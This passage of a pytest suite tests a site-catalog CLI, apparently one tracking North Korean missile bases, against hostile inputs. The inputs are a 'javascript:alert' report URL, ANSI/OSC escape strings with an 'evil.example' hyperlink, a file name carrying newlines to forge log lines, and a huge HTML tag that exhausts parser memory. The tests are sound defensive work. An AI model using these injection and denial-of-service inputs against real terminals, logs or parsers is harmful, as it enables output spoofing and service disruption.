    listed = [x for x in r.stderr.splitlines() if x.startswith("not ingested")]
    assert len(listed) == 1 and str(d / "b.md") in listed[0], r.stderr
    assert "javascript:alert" in listed[0] and "url must start with http" in listed[0]
    assert "1 report(s) not ingested" in r.stdout
    with open_catalog(shipped_path) as cat:
        titles = {s.title for s in cat.sources()}
    assert {"a", "c"} <= titles and "Scripted" not in titles


def test_a_refused_single_report_is_named(shipped_path, before, tmp_path):
    p = tmp_path / "js.md"
    p.write_text(JS_REPORT, encoding="utf-8")
    refused(run(shipped_path, "ingest", str(p)), 1, "js.md", "javascript:alert")
    assert dump(shipped_path) == before


# -- terminal escapes in show and review, forged lines in the summary (items 13, 14) -----------

ANSI = "\x1b[2J\x1b[31mRED\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b1m"


def _terminal_safe(text: str) -> bool:
    return not any((ord(c) < 32 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f for c in text)


def test_show_and_review_print_no_escape_sequences(shipped_path):
    from catalog import Citation, Site, Source

    with open_catalog(shipped_path) as cat, cat.transaction():
        cat.add_source(Source("s-ansi", f"Title {ANSI}", publisher=f"Pub {ANSI}"))
        cat.add_site(Site("kp-ansi", f"Name {ANSI}", "other", review_status="candidate",
                          notes=f"Notes {ANSI}\rforged"))
        cat.add_citation(Citation("kp-ansi", "s-ansi", f"Quote {ANSI}", char_start=0,
                                  char_end=10))
        cat.add_citation(Citation("kp-sakkanmol", "s-ansi", f"Quote {ANSI}"))
    for args in (["show", "kp-ansi"], ["show", "kp-sakkanmol"], ["review"],
                 ["sites", "--all"], ["history", "kp-ansi"]):
        r = run(shipped_path, *args)
        assert r.exit_code == 0, r.output
        assert "RED" in r.output or args[0] == "history"
        assert _terminal_safe(r.output), (args, repr(r.output))


def test_a_file_name_with_a_newline_cannot_forge_a_line(shipped_path, tmp_path):
    d = tmp_path / "batch"
    d.mkdir()
    forged = "x.txt\nkp-forged: added source 'forged': 9 citation(s)\n\x1b[2J"
    (d / f"{forged}.txt").write_text("Trucks at the Sakkanmol base.\n", encoding="utf-8")
    (d / "plain.txt").write_text("Work at the Hoejung-ni missile base.\n", encoding="utf-8")
    r = run(shipped_path, "ingest", str(d))
    assert r.exit_code == 0, r.output
    assert not any(line.startswith("kp-forged") for line in r.stderr.splitlines())
    assert _terminal_safe(r.stderr)
    assert repr(str(d / f"{forged}.txt")) in r.stderr
    assert f"{d / 'plain.txt'}: added source" in r.stderr  # a plain name stays as it is
    with open_catalog(shipped_path) as cat:  # the title taken from the name is clean too
        titles = [s.title for s in cat.sources() if s.title.startswith("x.txt")]
    assert titles == ["x.txt kp-forged: added source 'forged': 9 citation(s)"]


# -- a name that is already another site's (issue 15, item 17) ---------------------------------

@pytest.mark.parametrize("args", [
    ["add-site", "kp-x", "--name", "X", "--type", "other", "--alias", "Hoejung-ri"],
    ["add-site", "kp-x", "--name", "Hoejung ri", "--type", "other"],
    ["add-site", "kp-x", "--name", "X", "--type", "other", "--name-local", "회중리"],
    ["add-alias", "kp-sakkanmol", "Hoejungni"],
])
def test_a_name_of_another_site_is_refused_at_the_door(shipped_path, before, args):
    refused(run(shipped_path, *args), 1, "kp-hoejung-ni", "already a name of site")
    assert dump(shipped_path) == before
    r = run(shipped_path, "validate")
    assert r.exit_code == 0 and "duplicate-alias" not in r.output, r.output


def test_a_sites_own_name_and_new_names_are_still_added(shipped_path):
    assert run(shipped_path, "add-alias", "kp-hoejung-ni", "Hoejung-ri").exit_code == 0
    r = run(shipped_path, "add-site", "kp-x", "--name", "X site", "--type", "other",
            "--alias", "Ex site")
    assert r.exit_code == 0, r.output
    assert run(shipped_path, "validate").exit_code == 0


# -- gazetteer files that are not UTF-8; long CSV fields (issue 15, item 18) -------------------

@pytest.mark.parametrize("which", ["places", "alternate names"])
def test_a_non_utf8_gazetteer_is_one_line(shipped_path, before, tmp_path, which):
    good = tmp_path / "KP.txt"
    row = ["1", "Kusong", "Kusong", "", "39.98", "125.24", "P", "PPL", "KP", "", "", "", "",
           "", "0", "", "", "Asia/Pyongyang", "2020-01-01"]
    bad_row = [*row[:2], "Kusöng", "Küsong", *row[4:]]
    if which == "places":
        good.write_bytes("\t".join(bad_row).encode("latin-1") + b"\n")
        args = [str(good)]
    else:
        good.write_text("\t".join(row) + "\n", encoding="utf-8")
        alt = tmp_path / "alternateNames.txt"
        alt.write_bytes("9\t1\tfr\tKousong\n".encode("ascii")
                        + "10\t1\tde\tKüsong\n".encode("latin-1"))
        args = [str(good), "--alternate-names", str(alt)]
    name = "KP.txt" if which == "places" else "alternateNames.txt"
    refused(run(shipped_path, "gazetteer", "import", *args), 1, name, "not UTF-8", "0x")
    assert dump(shipped_path) == before


def test_a_csv_field_over_128_kib_round_trips(shipped_path, tmp_path):
    long_quote = "The Sakkanmol base, " + "described at length " * 10_000  # ~200 KB
    assert len(long_quote) > 131072
    r = run(shipped_path, "cite", "kp-sakkanmol", "csis-2018-11-12-sakkanmol", "--quote",
            long_quote)
    assert r.exit_code == 0, r.output
    out = tmp_path / "csv" / "sites.csv"
    assert run(shipped_path, "export", "-o", str(out)).exit_code == 0
    other = tmp_path / "other.gpkg"
    assert run(other, "init").exit_code == 0
    r = run(other, "import", str(out))
    assert r.exit_code == 0, r.output
    with open_catalog(other) as cat:
        assert long_quote in [c.quote for c in cat.citations(site_id="kp-sakkanmol")]


def test_an_html_tag_of_millions_of_attributes_is_refused_by_its_size(tmp_path):
    """Issue 15 item 4: one 64 MB tag with 3.5 million attributes took 2.95 GB to parse;
    a tag over readers.MAX_HTML_TAG_CHARS is refused before parsing, naming the limit."""
    import resource

    from catalog.readers import MAX_HTML_TAG_CHARS, ReportError, read_report

    p = tmp_path / "attrs.html"
    with open(p, "w", encoding="utf-8") as f:
        f.write("<html><head><title>T</title></head><body><p ")
        f.write("a " * 3_000_000)  # 6 MB of attributes in one tag
        f.write(">text</p></body></html>")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(ReportError, match=f"over the {MAX_HTML_TAG_CHARS:,} a tag may have"):
        read_report(p)
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kib < 200_000  # parsing it took 250 MB and more
    ok = tmp_path / "ok.html"
    ok.write_text("<html><body><p class='x' " + "data-a='1' " * 1000 + ">Fine.</p></body>"
                  "</html>", encoding="utf-8")
    assert read_report(ok).text == "Fine."
